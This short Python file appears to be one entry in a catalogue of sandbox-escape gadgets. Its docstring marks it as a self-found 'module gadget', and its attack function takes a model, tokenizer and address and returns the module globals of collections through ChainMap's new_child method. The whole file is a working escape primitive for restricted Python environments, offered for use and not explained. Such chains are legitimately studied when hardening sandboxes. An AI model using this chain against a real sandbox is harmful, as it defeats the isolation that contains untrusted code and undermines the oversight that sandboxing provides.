"""Class: module gadget. Source: own find. Escape: ChainMap hands out its maps and its own
functions.
"""

import collections


def attack(model, tokenizer, address):
    return collections.ChainMap({}).new_child.__func__.__globals__
